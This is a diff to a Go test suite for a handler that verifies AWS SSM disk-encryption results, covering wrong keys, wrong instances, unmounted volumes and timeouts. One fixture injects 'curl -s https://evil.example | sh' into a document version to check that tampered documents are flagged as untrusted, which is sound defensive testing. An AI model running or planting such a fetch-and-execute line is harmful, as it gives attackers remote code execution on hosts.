@@ -15,6 +15,7 @@ import (
 	"github.com/storecrypt/storecrypt/internal/contract"
 	"github.com/storecrypt/storecrypt/internal/fakeaws"
 	"github.com/storecrypt/storecrypt/internal/result"
+	"github.com/storecrypt/storecrypt/test/deployment"
 )
 
 const (
@@ -27,8 +28,16 @@ var (
 	now      = launched.Add(95 * time.Second)
 )
 
-func report(res string, code contract.ExitCode, errMsg string) string {
-	b, _ := json.MarshalIndent(contract.Report{Command: "apply", Result: res, ExitCode: int(code), Error: errMsg, Devices: []contract.Device{}, Steps: []contract.Step{}}, "", "  ")
+// report is the document's output: download lines, then the agent's report; the layout
+// shows the volume ready and mounted under the standard key unless edit says otherwise.
+func report(res string, code contract.ExitCode, errMsg string, edit ...func(*contract.Report)) string {
+	r := contract.Report{Command: "apply", Result: res, ExitCode: int(code), Error: errMsg, InstanceID: instanceID, Devices: []contract.Device{}, Steps: []contract.Step{},
+		Layout: &contract.Layout{Volume: "/dev/md127", State: contract.StateReady, Open: true, Mounted: true, Cipher: "aes-xts-plain64", KeySizeBits: 512,
+			KeySource: contract.KeySourceKMSDataKey, KeyID: fakeaws.KeyARN, MountPoint: contract.DefaultMountPoint}}
+	for _, e := range edit {
+		e(&r)
+	}
+	b, _ := json.MarshalIndent(r, "", "  ")
 	return "downloading storecrypt-agent (arm64)\nsha256 ok\n" + string(b) + "\n"
 }
 
@@ -45,7 +54,21 @@ func sampleEvent(t *testing.T, file string) events.CloudWatchEvent {
 	return ev
 }
 
+func inv(status string, code int32, stdout string) *fakeaws.Invocation {
+	return &fakeaws.Invocation{Status: status, ResponseCode: code, Stdout: stdout}
+}
+
 func TestHandle(t *testing.T) {
+	untrusted := func(w *fakeaws.World, _ *events.CloudWatchEvent) {
+		d := w.Documents[contract.DocumentName]
+		d.Versions = append(d.Versions, strings.Replace(d.Versions[0], "set -eu", "set -eu; curl -s https://evil.example | sh", 1))
+		w.Commands[0].DocumentVersion = "2"
+	}
+	status := func(s string) func(*fakeaws.World, *events.CloudWatchEvent) {
+		return func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
+			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), `"Success"`, `"`+s+`"`, 1))
+		}
+	}
 	for _, tc := range []struct {
 		name    string
 		file    string
@@ -56,29 +79,53 @@ func TestHandle(t *testing.T) {
 		metric  string
 		ignored bool
 	}{
-		{"success", "ssm-success.json", &fakeaws.Invocation{Status: "Success", Stdout: report("ok", 0, "")}, nil, contract.StatusEncrypted, "", `"Encrypted":1`, false},
-		{"refused by the agent", "ssm-failed.json", &fakeaws.Invocation{Status: "Failed", ResponseCode: 3, Stdout: report("refused-unsafe", 3, "refusing /dev/nvme1n1: it holds ext4")}, nil,
+		{"success with the agent's evidence", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), nil, contract.StatusEncrypted, "", `"Encrypted":1`, false},
+		{"success without a report", "ssm-success.json", inv("Success", 0, "storecrypt: done\n"), nil, contract.StatusUnverified, contract.ReasonNoReport, `"Failed":1`, false},
+		{"success, invocation gone", "ssm-success.json", nil, nil, contract.StatusUnverified, contract.ReasonNoReport, `"Failed":1`, false},
+		{"success, volume not mounted", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.Layout.Mounted = false })), nil,
+			contract.StatusUnverified, contract.ReasonNotReady, `"Reason":"not-ready"`, false},
+		{"success, volume still provisioning", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.Layout.State = contract.StateProvisioning })), nil,
+			contract.StatusUnverified, contract.ReasonNotReady, `"Failed":1`, false},
+		{"success under another key", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) {
+			r.Layout.KeyID = "arn:aws:kms:us-east-1:444455556666:key/99999999-2222-4333-8444-555555555555"
+		})), nil, contract.StatusUnverified, contract.ReasonWrongKey, `"Failed":1`, false},
+		{"success with an ephemeral key", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) {
+			r.Layout.KeySource, r.Layout.KeyID = contract.KeySourceEphemeral, ""
+		})), nil, contract.StatusUnverified, contract.ReasonWrongKey, `"Failed":1`, false},
+		{"success, another instance's report", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.InstanceID = "i-0fffffffffffffff0" })), nil,
+			contract.StatusUnverified, contract.ReasonWrongInstance, `"Failed":1`, false},
+		{"success of a document version the stack did not deploy", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), untrusted,
+			contract.StatusUnverified, contract.ReasonUntrustedDocument, `"Reason":"untrusted-document"`, false},
+		{"refused by the agent", "ssm-failed.json", inv("Failed", 3, report("refused-unsafe", 3, "refusing /dev/nvme1n1: it holds ext4")), nil,
 			contract.StatusFailed, "refused-unsafe", `"Failed":1`, false},
-		{"failed without a report", "ssm-failed.json", &fakeaws.Invocation{Status: "Failed", ResponseCode: 4, Stdout: "curl: (7) Failed to connect\n"}, nil,
+		{"failed without a report", "ssm-failed.json", inv("Failed", 4, "curl: (7) Failed to connect\n"), nil,
 			contract.StatusFailed, "key-unavailable", `"Reason":"key-unavailable"`, false},
-		{"timed out", "ssm-timedout.json", &fakeaws.Invocation{Status: "TimedOut"}, nil, contract.StatusFailed, contract.ReasonTimedOut, `"Failed":1`, false},
-		{"invocation gone", "ssm-success.json", nil, nil, contract.StatusEncrypted, "", `"Encrypted":1`, false},
-		{"another document", "ssm-success.json", &fakeaws.Invocation{Status: "Success"}, func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
+		{"timed out", "ssm-timedout.json", inv("TimedOut", -1, ""), nil, contract.StatusFailed, contract.ReasonTimedOut, `"Failed":1`, false},
+		{"never delivered", "ssm-timedout.json", &fakeaws.Invocation{Status: "TimedOut", StatusDetails: "Delivery Timed Out", ResponseCode: -1}, nil,
+			contract.StatusFailed, contract.ReasonDeliveryTimedOut, `"Reason":"delivery-timed-out"`, false},
+		{"canceled, as the event reference spells it", "ssm-success.json", inv("Cancelled", -1, ""), status("Canceled"),
+			contract.StatusFailed, contract.ReasonCancelled, `"Failed":1`, false},
+		{"another document", "ssm-success.json", inv("Success", 0, ""), func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
 			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), "storecrypt-apply", "AWS-RunShellScript", 1))
 		}, "", "", "", true},
-		{"still in progress", "ssm-success.json", &fakeaws.Invocation{Status: "InProgress"}, func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
-			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), `"Success"`, `"InProgress"`, 1))
-		}, "", "", "", true},
-		{"a newer command is pending", "ssm-failed.json", &fakeaws.Invocation{Status: "Failed", ResponseCode: 1}, func(w *fakeaws.World, _ *events.CloudWatchEvent) {
+		{"still in progress", "ssm-success.json", inv("InProgress", -1, ""), status("InProgress"), "", "", "", true},
+		{"a newer command is pending", "ssm-failed.json", inv("Failed", 1, ""), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
 			w.Instances[instanceID].Tags = map[string]string{contract.TagStatus: contract.StatusPending, contract.TagCommandID: "newer", contract.TagAt: launched.Add(time.Hour).Format(time.RFC3339)}
 		}, contract.StatusPending, "", "", true},
+		{"a success from before a stop/start", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
+			w.Instances[instanceID].LaunchTime = launched.Add(2 * time.Minute)
+		}, "", "", "", true},
 		{"another event type", "ec2-running.json", nil, nil, "", "", "", true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			w := fakeaws.NewAccount()
 			w.AddInstance(instanceID, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
+			d, err := deployment.Into(w, fakeaws.KeyARN)
+			if err != nil {
+				t.Fatal(err)
+			}
 			w.With(func() {
-				c := &fakeaws.Command{ID: commandID, DocumentName: "storecrypt-apply", InstanceIDs: []string{instanceID}, Invocations: map[string]*fakeaws.Invocation{}}
+				c := &fakeaws.Command{ID: commandID, DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID}, Invocations: map[string]*fakeaws.Invocation{}}
 				if tc.inv != nil {
 					c.Invocations[instanceID] = tc.inv
 				}
@@ -88,8 +135,12 @@ func TestHandle(t *testing.T) {
 			if tc.edit != nil {
 				w.With(func() { tc.edit(w, &ev) })
 			}
+			cfg, err := result.LoadConfig(d.Getenv)
+			if err != nil {
+				t.Fatal(err)
+			}
 			var logs, metrics bytes.Buffer
-			h := result.New(result.Config{DocumentName: "storecrypt-apply", EventBus: "default"}, w.Config(), slog.New(slog.NewJSONHandler(&logs, nil)), &metrics)
+			h := result.New(cfg, w.Config(), slog.New(slog.NewJSONHandler(&logs, nil)), &metrics)
 			h.Now = func() time.Time { return now }
 			out, err := h.Handle(context.Background(), ev)
 			if err != nil {
@@ -119,7 +170,7 @@ func TestHandle(t *testing.T) {
 			if tc.status == contract.StatusEncrypted && !strings.Contains(metrics.String(), `"SecondsToEncrypted":95`) {
 				t.Errorf("metrics %s, want SecondsToEncrypted 95", metrics.String())
 			}
-			if failed := tc.status == contract.StatusFailed; failed != (len(evs) == 1) {
+			if alerted := tc.status != contract.StatusEncrypted; alerted != (len(evs) == 1) {
 				t.Errorf("alert events %+v", evs)
 			}
 			for _, line := range strings.Split(strings.TrimSpace(logs.String()), "\n") {
@@ -143,11 +194,17 @@ func TestParseReport(t *testing.T) {
 }
 
 func TestLoadConfig(t *testing.T) {
-	if _, err := result.LoadConfig(func(string) string { return "" }); err == nil || !strings.Contains(err.Error(), contract.EnvDocumentName) {
-		t.Errorf("got %v, want an error naming %s", err, contract.EnvDocumentName)
+	if _, err := result.LoadConfig(func(string) string { return "" }); err == nil || !strings.Contains(err.Error(), contract.EnvDocumentName) ||
+		!strings.Contains(err.Error(), contract.EnvDocumentDigest) || !strings.Contains(err.Error(), contract.EnvKMSKeyARN) {
+		t.Errorf("got %v, want an error naming %s, %s and %s", err, contract.EnvDocumentName, contract.EnvDocumentDigest, contract.EnvKMSKeyARN)
 	}
-	c, err := result.LoadConfig(func(k string) string { return map[string]string{contract.EnvDocumentName: "d-1"}[k] })
-	if err != nil || c.DocumentName != "d-1" || c.EventBus != "default" {
+	env := map[string]string{contract.EnvDocumentName: "d-1", contract.EnvDocumentDigest: strings.Repeat("0", 64), contract.EnvKMSKeyARN: fakeaws.KeyARN}
+	c, err := result.LoadConfig(func(k string) string { return env[k] })
+	if err != nil || c.DocumentName != "d-1" || c.EventBus != "default" || c.KeySource != contract.KeySourceKMSDataKey {
 		t.Errorf("got %+v, %v", c, err)
+	}
+	env[contract.EnvKeySource] = contract.KeySourceEphemeral
+	if _, err := result.LoadConfig(func(k string) string { return env[k] }); err == nil || !strings.Contains(err.Error(), contract.EnvKeySource) {
+		t.Errorf("ephemeral: got %v, want an error naming %s", err, contract.EnvKeySource)
 	}
 }
